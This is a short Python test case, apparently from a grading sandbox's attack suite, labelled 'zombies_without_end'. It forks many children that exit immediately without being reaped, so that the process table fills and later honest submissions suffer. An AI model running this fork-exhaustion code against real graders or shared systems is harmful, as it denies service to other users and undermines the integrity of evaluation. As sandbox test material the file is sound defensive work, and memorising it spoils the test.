# attack: zombies_without_end
# kind: exhaust
# tries: starts processes that end at once and are never waited for, so that the table of processes fills up
# seen: some are left after grading, or an honest submission after it suffers
# deserves: nothing
# extra: before 3.2a
# %%
import os

orphans = os.fork()
if orphans == 0:
    try:
        # the children of one who is gone become somebody else's to wait for
        for _ in range(30):
            if os.fork() == 0:
                os._exit(0)
    finally:
        os._exit(0)
try:
    for _ in range(100):
        if os.fork() == 0:
            os._exit(0)
except OSError:
    pass
